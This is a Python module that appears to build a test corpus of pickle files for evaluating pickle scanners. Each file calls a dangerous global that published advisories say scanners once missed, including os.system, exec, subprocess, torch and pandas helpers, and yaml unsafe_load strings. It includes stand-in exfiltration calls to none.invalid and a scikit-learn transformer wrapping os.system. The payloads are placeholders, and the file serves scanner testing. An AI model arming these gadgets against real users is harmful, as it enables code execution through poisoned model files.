"""Pickles that name one dangerous global and call it: those that the published lists lacked at some time."""

from .assemble import HARMLESS_CODE as CODE
from .assemble import HARMLESS_COMMAND as COMMAND
from .assemble import HARMLESS_EXPRESSION as EXPRESSION
from .assemble import Opcodes, called, many, name, proto, text

PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories/"
FICKLING = "https://github.com/trailofbits/fickling/security/advisories/"
MODELSCAN = "https://github.com/protectai/modelscan/issues/"

# Name of the file, module, attribute, arguments, protocol, what was published.
CALLS = [
    ("os-system-0", "posix", "system", [COMMAND], 0, "https://huggingface.co/ykilcher/totally-harmless-model"),
    ("nt-system", "nt", "system", [COMMAND], 2, "https://github.com/mmaitre314/picklescan"),
    ("builtins-exec", "builtins", "exec", [CODE], 3, "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/"),
    ("old-builtin-eval", "__builtin__", "eval", [EXPRESSION], 2, "https://github.com/mmaitre314/picklescan"),
    ("old-commands", "commands", "getoutput", [COMMAND], 2, "https://github.com/trailofbits/fickling"),
    ("subprocess-popen", "subprocess", "Popen", [[COMMAND]], 4, "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/"),
    ("pip-main", "pip", "main", [["download", "--no-deps", "none.invalid"]], 4, "CVE-2025-1716"),
    ("pip-internal-main", "pip._internal.cli.main", "main", [["--version"]], 4, "CVE-2025-1716"),
    ("runpy-run-code", "runpy", "_run_code", [CODE, {}], 4, FICKLING + "GHSA-wfq2-52f7-7qvj"),
    ("timeit", "timeit", "timeit", [COMMAND, CODE], 4, PICKLESCAN + "GHSA-655q-fx9r-782v"),
    ("cprofile-runctx", "cProfile", "runctx", [CODE, {}, {}], 4, PICKLESCAN + "GHSA-9w88-8rmg-7g2p"),
    ("profile-run-method", "profile", "Profile.run", [{}, CODE], 4, PICKLESCAN + "GHSA-x696-vm39-cp64"),
    ("trace-run", "trace", "Trace.run", [{}, CODE], 4, PICKLESCAN + "GHSA-5qwp-399c-mjwf"),
    ("bdb-run", "bdb", "Bdb.run", [None, CODE], 4, PICKLESCAN + "GHSA-4675-36f9-wf6r"),
    ("code-runcode", "code", "InteractiveInterpreter.runcode", [{}, CODE], 4, PICKLESCAN + "GHSA-cj3c-v495-4xqh"),
    ("idlelib-pyshell", "idlelib.pyshell", "ModifiedInterpreter.runcode", [{}, CODE], 4, PICKLESCAN + "GHSA-3gf5-cxq9-w223"),
    ("idlelib-calltip", "idlelib.calltip", "get_entity", [EXPRESSION], 4, PICKLESCAN + "GHSA-9xph-j2h6-g47v"),
    ("lib2to3-make-label", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", [None, {}, '""+' + EXPRESSION], 4, PICKLESCAN + "GHSA-p9w7-82w4-7q8m"),
    ("doctest-debug-script", "doctest", "debug_script", [CODE, True], 4, PICKLESCAN + "GHSA-fqq6-7vqf-w3fg"),
    ("ensurepip", "ensurepip", "_run_pip", [["--version"]], 4, PICKLESCAN + "GHSA-xp4f-hrf8-rxw7"),
    ("webbrowser-open", "webbrowser", "open", ["http://none.invalid/"], 4, PICKLESCAN + "GHSA-655q-fx9r-782v"),
    ("distutils-write-file", "distutils.file_util", "write_file", ["touched-by-scan-corpus", ["harmless"]], 4, PICKLESCAN + "GHSA-m273-6v24-x4m4"),
    ("logging-file-handler", "logging", "FileHandler", ["touched-by-scan-corpus"], 4, PICKLESCAN + "GHSA-m7j5-r2p5-c39r"),
    ("io-file", "_io", "FileIO", ["touched-by-scan-corpus", "w"], 4, PICKLESCAN + "GHSA-9726-w42j-3qjr"),
    ("shutil-copyfile", "shutil", "copyfile", ["/dev/null", "touched-by-scan-corpus"], 4, "https://github.com/trailofbits/fickling/pull/210"),
    ("ssl-server-certificate", "ssl", "get_server_certificate", [("secret.none.invalid", 443)], 4, "CVE-2025-46417"),
    ("urllib-urlopen", "urllib.request", "urlopen", ["http://none.invalid/?secret"], 4, PICKLESCAN + "GHSA-9726-w42j-3qjr"),
    ("socket-connect", "socket", "create_connection", [("none.invalid", 9)], 4, "https://github.com/mmaitre314/picklescan"),
    ("http-client", "http.client", "HTTPSConnection", ["none.invalid"], 4, "https://github.com/mmaitre314/picklescan"),
    ("requests-get", "requests.api", "get", ["http://none.invalid/?secret"], 2, "https://github.com/mmaitre314/picklescan"),
    ("numpy-runstring", "numpy.testing._private.utils", "runstring", [CODE, {}], 4, "https://github.com/mmaitre314/picklescan"),
    ("numpy-f2py", "numpy.f2py.crackfortran", "getlincoef", [EXPRESSION, []], 4, PICKLESCAN + "GHSA-r8g5-cgf2-4m4m"),
    ("torch-hub-load", "torch.hub", "load", ["none.invalid/none", "none"], 2, "https://github.com/mmaitre314/picklescan"),
    ("torch-collect-env", "torch.utils.collect_env", "run", [COMMAND], 4, PICKLESCAN + "GHSA-f745-w6jp-hpxx"),
    ("torch-bottleneck", "torch.utils.bottleneck.__main__", "run_cprofile", [CODE, {}], 4, PICKLESCAN + "GHSA-4r9r-ch6f-vxmx"),
    ("torch-exec-wrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", [CODE, {}, {}], 4, PICKLESCAN + "GHSA-vr7h-p6mm-wpmh"),
    ("torch-shape-env", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", [{}, EXPRESSION, []], 4, PICKLESCAN + "GHSA-f4x7-rfwp-v3xw"),
    ("torch-guard-builder", "torch._dynamo.guards", "GuardBuilder.get", [{}, EXPRESSION], 4, PICKLESCAN + "GHSA-86cj-95qr-2p4f"),
    ("torch-compile-file", "torch._inductor.codecache", "compile_file", ["", "", ["sh", "-c", COMMAND]], 4, "https://github.com/mmaitre314/picklescan"),
    ("torch-rpc-sync", "torch.distributed.rpc", "rpc_sync", ["worker", Opcodes(name("os", "system")), (COMMAND,)], 2, "CVE-2024-5480"),
    ("torch-type-line", "torch.jit.annotations", "parse_type_line", ["# type: (" + EXPRESSION + ") -> int", None, 0], 2, "CVE-2022-45907"),
    ("spawnv-passfds", "multiprocessing.util", "spawnv_passfds", [b"/bin/true", ("true",), ()], 4, MODELSCAN + "338"),
    ("pandas-read-csv", "pandas.io.parsers.readers", "read_csv", ["http://none.invalid/?secret"], 4, MODELSCAN + "338"),
    ("pandas-eval", "pandas", "eval", ["@__builtins__.__import__('os').system('true')"], 4, "CVE-2024-9880"),
    ("mlflow-entry-point", "mlflow.projects.backend.local", "_run_entry_point", [COMMAND, ".", "", ""], 4, MODELSCAN + "338"),
    ("uuid-command", "uuid", "_get_command_stdout", [COMMAND], 4, FICKLING + "GHSA-5hwf-rc88-82xm"),
    ("osx-support", "_osx_support", "_read_output", [COMMAND], 4, FICKLING + "GHSA-5hwf-rc88-82xm"),
    ("imaplib-stream", "imaplib", "IMAP4_stream", [COMMAND], 4, PICKLESCAN + "GHSA-g38g-8gr9-h9xp"),
    ("test-script-helper", "test.support.script_helper", "assert_python_ok", ["-c", "pass"], 4, PICKLESCAN + "GHSA-g38g-8gr9-h9xp"),
    ("ctypes-cdll", "ctypes", "CDLL", [None], 4, FICKLING + "GHSA-q5qq-mvfm-j35x"),
    ("numpy-load-library", "numpy.ctypeslib", "load_library", ["none", "."], 4, "https://github.com/mmaitre314/picklescan"),
    ("site-addsitedir", "site", "addsitedir", ["."], 4, FICKLING + "GHSA-m6fh-58r7-x697"),
    ("asyncio-subprocess", "asyncio.unix_events", "_UnixSubprocessTransport._start", [{}, COMMAND, True, None, None, None, 0], 4, "CVE-2025-10157"),
    ("importlib-import", "importlib", "import_module", ["antigravity"], 4, FICKLING + "GHSA-q5qq-mvfm-j35x"),
    ("joblib-pre-dispatch", "joblib.parallel", "eval_expr", [EXPRESSION], 4, "CVE-2022-21797"),
    ("yaml-unsafe-load", "yaml", "unsafe_load", ["!!python/object/apply:os.system ['true']"], 4, "CVE-2020-14343"),
]


def transformer():
    """An estimator whose function is run by transform only: it is named, and nothing calls it while it is read."""
    state = (
        b"}("
        + text("func") + name("os", "system")
        + text("inverse_func") + b"N"
        + text("validate") + b"\x89"
        + text("kw_args") + b"N"
        + b"u"
    )
    return proto(4) + name("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81" + state + b"b."


def items():
    for file, module, attribute, arguments, number, after in CALLS:
        pickled = called(module, attribute, *arguments, number=number) if number else old(module, attribute, *arguments)
        yield f"pickle-{file}.pkl", pickled, f"calls {module}.{attribute}, protocol {number}", after
    yield "pickle-function-transformer.pkl", transformer(), "a scikit-learn transformer whose function is os.system, for later", "https://arxiv.org/abs/2508.19774"


def old(module, attribute, argument):
    return name(module, attribute) + many(b"S'" + argument.encode() + b"'\n") + b"R."
